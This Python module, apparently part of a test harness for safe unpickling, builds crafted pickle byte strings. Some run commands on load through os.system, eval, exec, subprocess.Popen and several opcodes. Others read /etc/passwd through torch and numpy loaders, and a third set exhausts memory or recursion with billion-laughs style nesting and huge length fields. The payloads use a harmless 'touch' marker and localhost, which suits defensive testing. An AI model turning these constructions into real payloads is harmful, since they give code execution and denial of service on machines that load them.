"""Which pickles would run code, or take the memory of the machine, if anybody loaded them?"""

from __future__ import annotations

import struct
from collections.abc import Callable

from torture.attacks.attack import MARK

COMMAND = f"touch {MARK}"


def text(value: str) -> bytes:
    """A text on the stack."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def number(value: int) -> bytes:
    """An integer on the stack."""
    raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def named(module: str, name: str) -> bytes:
    """A class or function on the stack, by name."""
    return f"c{module}\n{name}\n".encode()


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """The result of a call on the stack."""
    return named(module, name) + b"(" + b"".join(arguments) + b"tR"


def pickled(value: bytes) -> bytes:
    """A whole pickle that gives `value`."""
    return b"\x80\x02" + value + b"."


SYSTEM = pickled(call("os", "system", text(COMMAND)))
POSIX = pickled(call("posix", "system", text(COMMAND)))
EVAL = pickled(call("builtins", "eval", text(f"open({MARK!r}, 'w')")))
EXEC = pickled(call("builtins", "exec", text(f"open({MARK!r}, 'w')")))
GETATTR = pickled(call("builtins", "getattr", named("os", "path"), text("os")))
IMPORT = pickled(call("importlib", "import_module", text("attacker")))
ATTACKER = pickled(call("attacker", "Payload"))
POPEN = pickled(call("subprocess", "Popen", b"]" + text(COMMAND) + b"a"))
HUB = pickled(call("torch.hub", "load_state_dict_from_url", text("http://localhost/x")))
TORCH_LOAD = pickled(call("torch.serialization", "load", text("/etc/passwd")))
NUMPY = pickled(call("numpy", "load", text("/etc/passwd")))
PARTIAL = pickled(call("functools", "partial", named("os", "system"), text(COMMAND)))
TEXT_MODE = f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode()
INSTANCE = f"(S'{COMMAND}'\nios\nsystem\n.".encode()
STACK_GLOBAL = b"\x80\x04" + text("os") + text("system") + b"\x93(" + text(COMMAND) + b"tR."
OBJECT = b"(" + named("os", "system") + text(COMMAND) + b"o."
NEW_OBJECT = b"\x80\x02" + named("attacker", "Payload") + b")\x81."
EXTENSION = b"\x80\x02\x82\x01."

RUNNING = {
    "system": SYSTEM,
    "posix": POSIX,
    "eval": EVAL,
    "exec": EXEC,
    "getattr": GETATTR,
    "import": IMPORT,
    "own-module": ATTACKER,
    "popen": POPEN,
    "torch-hub": HUB,
    "torch-load": TORCH_LOAD,
    "numpy-load": NUMPY,
    "partial": PARTIAL,
    "text-mode": TEXT_MODE,
    "instance": INSTANCE,
    "stack-global": STACK_GLOBAL,
    "object": OBJECT,
    "new-object": NEW_OBJECT,
    "extension": EXTENSION,
}
"""Pickles that run something when they are loaded."""

LAUGHS = pickled(
    b"]q\x00"
    + b"".join(
        b"](" + b"h" + bytes([n]) + bytes([104, n]) * 9 + b"eq" + bytes([n + 1]) for n in range(30)
    )
)
"""Lists of ten times the same list, thirty deep: small as a pickle, endless for who walks it."""

DEEP = pickled(b"]" * 50_000 + b"a" * 49_999)
DEEP_TUPLES = pickled(b")" + b"\x85" * 50_000)
LONG_TEXT = b"\x80\x02X\xff\xff\xff\xff."
LONG_FRAME = b"\x80\x04\x95" + b"\xff" * 8 + b"N."
LONG_NUMBER = b"\x80\x02\x8b\xff\xff\xff\x7f."
FAR_MEMO = b"\x80\x02Nr\xff\xff\xff\xff."
CYCLE = pickled(b"]q\x00h\x00a")

COSTLY: dict[str, bytes] = {
    "deep": DEEP,
    "deep-tuples": DEEP_TUPLES,
    "long-text": LONG_TEXT,
    "long-frame": LONG_FRAME,
    "long-number": LONG_NUMBER,
    "far-memo": FAR_MEMO,
}
"""Pickles that ask for more than is there."""

Payload = Callable[[], bytes]
